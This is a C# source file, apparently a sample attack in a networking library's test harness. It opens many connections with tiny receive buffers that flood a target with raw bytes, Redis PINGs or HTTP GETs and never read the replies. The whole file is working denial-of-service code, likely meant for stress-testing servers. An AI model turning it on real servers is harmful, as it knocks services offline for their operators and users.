using System.Net;
using System.Net.Sockets;

namespace BypassNet.Samples.Attack;

/// <summary>
/// Peers that stop reading: N connections with a small receive buffer each push up to M MiB (raw bytes for an echo
/// server, pipelined PINGs for RESP, pipelined GETs for HTTP) and never read a byte of the replies.
/// </summary>
internal sealed class StalledReaders(IPEndPoint target, int connections, int mebibytes, int receiveBuffer, string payload, string httpPath) : IAttack
{
    private readonly AttackConnections _connections = new();
    private readonly List<Task> _pushes = [];
    private long _pushed;

    public async Task StartAsync(CancellationToken cancel)
    {
        await _connections.OpenAsync(target, connections, receiveBuffer, TimeSpan.FromSeconds(2), cancel).ConfigureAwait(false);
        byte[] chunk = Chunk(payload, httpPath);
        foreach (Socket socket in _connections.Sockets)
        {
            _pushes.Add(PushAsync(socket, chunk));
        }
    }

    public string Describe() =>
        $"{_connections.Sockets.Count} stalled readers ({_connections.Failed} failed to connect), SO_RCVBUF {receiveBuffer} B, {Interlocked.Read(ref _pushed) / 1048576.0:0.0} MiB pushed of {(long)connections * mebibytes} MiB";

    public async ValueTask DisposeAsync()
    {
        await _connections.DisposeAsync().ConfigureAwait(false);
        await Task.WhenAll(_pushes).ConfigureAwait(false);
    }

    private async Task PushAsync(Socket socket, byte[] chunk)
    {
        long total = (long)mebibytes * 1024 * 1024;
        try
        {
            for (long sent = 0; sent < total;)
            {
                int n = await socket.SendAsync(chunk.AsMemory(0, (int)Math.Min(chunk.Length, total - sent)), SocketFlags.None).ConfigureAwait(false);
                sent += n;
                Interlocked.Add(ref _pushed, n);
            }
        }
        catch (Exception ex) when (ex is SocketException or ObjectDisposedException)
        {
            // Released (or reset by the server): the push is over either way.
        }
    }

    private static byte[] Chunk(string payload, string httpPath)
    {
        byte[] unit = payload switch
        {
            "raw" => [.. Enumerable.Range(0, 64 * 1024).Select(i => (byte)i)],
            "resp" => "*1\r\n$4\r\nPING\r\n"u8.ToArray(),
            "http" => System.Text.Encoding.ASCII.GetBytes($"GET {httpPath} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"),
            _ => throw new ArgumentException($"unknown payload '{payload}': use raw, resp or http"),
        };
        var chunk = new byte[64 * 1024 / unit.Length * unit.Length];
        for (int i = 0; i < chunk.Length; i += unit.Length)
        {
            unit.CopyTo(chunk, i);
        }

        return chunk;
    }
}
